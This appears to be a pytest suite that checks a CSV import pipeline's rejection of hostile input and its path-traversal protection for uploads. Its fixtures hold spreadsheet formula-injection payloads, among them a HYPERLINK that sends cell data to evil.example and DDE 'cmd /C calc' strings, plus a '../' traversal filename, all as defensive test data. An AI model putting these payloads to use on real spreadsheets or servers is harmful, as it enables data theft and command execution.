"""Hostile CSV files through the import: each hostile line is rejected with its reason (or the whole
file refused, when it is not text at all), every good line is imported exactly once, nothing else is
written, and the rejections report cannot run formulas in a spreadsheet."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path
from typing import Any

import httpx
import psycopg
import pytest

from api.main import create_app
from jobs.imports.report import iter_rejections_csv
from jobs.imports.service import ImportJob, create_import, get_import
from jobs.inline import InlineRun
from kamioi.settings import Settings
from tests.conftest import LocalStorage
from tests.reliability.support import wait_for_quiet_queue, wait_until

# The stack's own worker would race this module's runs for their jobs.
pytestmark = pytest.mark.usefixtures("stack_worker_paused")

USER = "00000000-0000-4000-a000-000000000002"
HEADER = b"user_id,txn_date,descriptor,amount\n"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def good_line(tag: str, n: int) -> bytes:
    return f"{USER},2026-03-{1 + n % 28:02d},STARBUCKS {tag} {n} SEATTLE WA,{1 + n % 40}.{n % 100:02d}\n".encode()


def good_lines(tag: str, first: int, count: int) -> bytes:
    return b"".join(good_line(tag, n) for n in range(first, first + count))


def transactions_of(conn: psycopg.Connection[Any], job_id: int) -> int:
    row = conn.execute("select count(*) from public.transactions where import_job_id = %s", (job_id,)).fetchone()
    return int(row[0]) if row else 0


def total_transactions(conn: psycopg.Connection[Any]) -> int:
    row = conn.execute("select count(*) from public.transactions").fetchone()
    return int(row[0]) if row else 0


def rejected_lines(conn: psycopg.Connection[Any], job_id: int) -> dict[int, str]:
    rows = conn.execute(
        "select line_number, string_agg(reason, '; ') from public.import_rejections"
        " where import_job_id = %s group by line_number",
        (job_id,),
    ).fetchall()
    return {int(line): reason for line, reason in rows}


def run_import(conn: psycopg.Connection[Any], settings: Settings, path: Path) -> ImportJob:
    """Register the file and run its job here (or let a stack worker that claims it first finish it)."""
    job = create_import(conn, kind="transactions", file=path)
    assert job.queue_job_id is not None
    jobs_settings = Settings(KAMIOI_IMPORT_CHUNK_ROWS=50, KAMIOI_JOBS_LEASE_SECONDS=10.0)
    InlineRun(settings.db_url, job.queue_job_id, jobs_settings).run()

    def finished() -> ImportJob | None:
        current = get_import(conn, job.id)
        return current if current is not None and current.finished else None

    result: ImportJob = wait_until(finished, 60, f"import {job.id}")
    return result


@pytest.fixture
def conn(settings: Settings) -> Any:
    with psycopg.connect(settings.db_url, autocommit=True) as c:
        wait_for_quiet_queue(c)
        yield c


@pytest.fixture
def tag() -> str:
    return uuid.uuid4().hex[:10].upper()


def hostile_file(tmp_path: Path, tag: str) -> tuple[Path, dict[int, str], int]:
    """A file of good lines with a hostile record after every few; returns it, {line: expected reason
    fragment} and the number of good lines. A record whose quote never closes within the row limit
    (KAMIOI_IMPORT_MAX_ROW_BYTES, 64 KiB) costs its first line, and its last line is then read as a
    line of its own (rejected too)."""
    hostile: list[tuple[bytes, str]] = [
        # formula injection: rejected (bad amount / user), and shown in the report as inert text
        (f'{USER},2026-03-02,"=HYPERLINK(""http://evil.example/?"" & A1, ""click"")",abc\n'.encode(), "amount"),
        (f"{USER},2026-03-02,+cmd|' /C calc'!A0,-1e9\n".encode(), "amount"),
        (b"@SUM(1+1)*cmd|' /C calc'!A0,2026-03-02,SHOP,1.00\n", "UUID"),
        (b"=1+2,2026-03-02,SHOP,1.00\n", "UUID"),
        (b"+1+2,2026-03-02,SHOP,1.00\n", "UUID"),
        (f"{USER},2026-03-02,\tTAB LEADS,=1+1\n".encode(), "amount"),
        (f"{USER},2026-03-02,-2+3,\r\n".encode(), "required"),
        # NUL bytes and bad encodings
        (f"{USER},2026-03-03,NUL\x00BYTE SHOP,4.00\n".encode(), "NUL"),
        (f"{USER},2026-03-03,".encode() + "CAFÉ DU MONDE".encode("latin-1") + b",4.00\n", "UTF-8"),
        (f"{USER},2026-03-03,".encode() + b"\xed\xa0\x80SURROGATE,4.00\n", "UTF-8"),
        (f"{USER},2026-03-03,".encode() + b"\xc0\xafOVERLONG,4.00\n", "UTF-8"),
        # pathological quoting; lines and records over the row limit are rejected unread
        # (the next line is over the limit, so this open quote would run into it)
        (f'{USER},2026-03-04,"UNTERMINATED QUOTE,4.00\n'.encode(), "quote left open"),
        (b'"' * 200_000 + b"\n", "longer than"),
        (f'{USER},2026-03-04,"{"x" * 150_000}",4.00\n'.encode(), "longer than"),
        (f'{USER},2026-03-04,"'.encode() + b"\n" * 3000 + b"x" * 120_000 + b'",4.00\n', "longer than"),
        (b"," * 100_000 + b"\n", "longer than"),
        (b"," * 30_000 + b"\n", "fields"),
        (f'{USER},2026-03-04,"A"B"C",4.00\n'.encode(), "CSV"),
        # a long line (the long fault suite streams a 1 GB one)
        (b"A" * (8 * 1024 * 1024) + b"\n", "longer than"),
    ]
    path = tmp_path / f"hostile-{tag}.csv"
    expected: dict[int, str] = {}
    line, good, n = 2, 0, 0
    with path.open("wb") as out:
        out.write(HEADER)
        for data, reason in hostile:
            out.write(good_lines(tag, n, 3))
            line, good, n = line + 3, good + 3, n + 3
            expected[line] = reason
            if data.count(b"\n") > 1:
                expected[line + data.count(b"\n") - 1] = reason
            line += data.count(b"\n")
            out.write(data)
        out.write(good_lines(tag, n, 3))
        good += 3
        # a quoted field with doubled quotes and an embedded newline is fine
        out.write(f'{USER},2026-03-05,"SHOP ""QUOTED""\nNAME {tag}",5.00\n'.encode())
        good += 1
    return path, expected, good


def test_hostile_lines_are_rejected_and_the_rest_imported_once(
    conn: psycopg.Connection[Any], settings: Settings, tmp_path: Path, tag: str
) -> None:
    path, expected, good = hostile_file(tmp_path, tag)
    before = total_transactions(conn)
    job = run_import(conn, settings, path)
    assert job.state == "succeeded", job.error
    assert transactions_of(conn, job.id) == good == job.inserted_rows
    assert total_transactions(conn) - before == good, "rows were written outside this import"
    rejected = rejected_lines(conn, job.id)
    assert set(rejected) == set(expected), (sorted(rejected), sorted(expected))
    for line, fragment in expected.items():
        assert fragment.lower() in rejected[line].lower(), (line, rejected[line])

    report = b"".join(iter_rejections_csv(conn, job.id)).decode()
    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the formula line should be in the report"
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, f"report cells a spreadsheet would evaluate: {dangerous[:5]}"


@pytest.mark.parametrize(
    ("encoding", "fragment"),
    [("utf-16", "UTF-8"), ("utf-32", "UTF-8"), ("cp037", "UTF-8")],  # cp037: EBCDIC
)
def test_a_file_in_another_encoding_is_refused_whole(
    conn: psycopg.Connection[Any], settings: Settings, tmp_path: Path, tag: str, encoding: str, fragment: str
) -> None:
    path = tmp_path / f"{encoding}.csv"
    path.write_bytes((HEADER + good_lines(tag, 0, 20)).decode().encode(encoding))
    before = total_transactions(conn)
    job = run_import(conn, settings, path)
    assert job.state == "failed"
    assert job.error is not None and fragment in job.error, job.error
    assert total_transactions(conn) == before


def test_a_utf8_bom_and_crlf_are_fine(
    conn: psycopg.Connection[Any], settings: Settings, tmp_path: Path, tag: str
) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + (HEADER + good_lines(tag, 0, 30)).replace(b"\n", b"\r\n"))
    job = run_import(conn, settings, path)
    assert job.state == "succeeded", job.error
    assert transactions_of(conn, job.id) == 30
    assert rejected_lines(conn, job.id) == {}


async def test_upload_filename_cannot_choose_where_the_file_goes(
    api_settings: Settings, storage_server: LocalStorage, admin_headers: dict[str, str],
    conn: psycopg.Connection[Any], tag: str,
) -> None:  # fmt: skip
    target = Path("/tmp") / f"kamioi-traversal-{tag}.csv"
    app = create_app(api_settings.model_copy(update={"supabase_storage_url": storage_server.url}))
    transport = httpx.ASGITransport(app=app)
    async with app.router.lifespan_context(app), httpx.AsyncClient(transport=transport, base_url="http://t") as client:
        response = await client.post(
            "/v1/imports/upload",
            params={"kind": "transactions"},
            files={"file": (f"../../../../../..{target}", HEADER + good_lines(tag, 0, 2))},
            headers=admin_headers,
        )
    assert response.status_code == 201, response.text
    job = response.json()
    conn.execute("select private.cancel_import_job(%s)", (job["id"],))
    assert not target.exists()
    assert job["storage_bucket"] == api_settings.import_bucket
    assert ".." not in job["file_path"].split("/") and target.name not in job["file_path"]
    assert storage_server.objects.file(job["storage_bucket"], job["file_path"]).is_file()
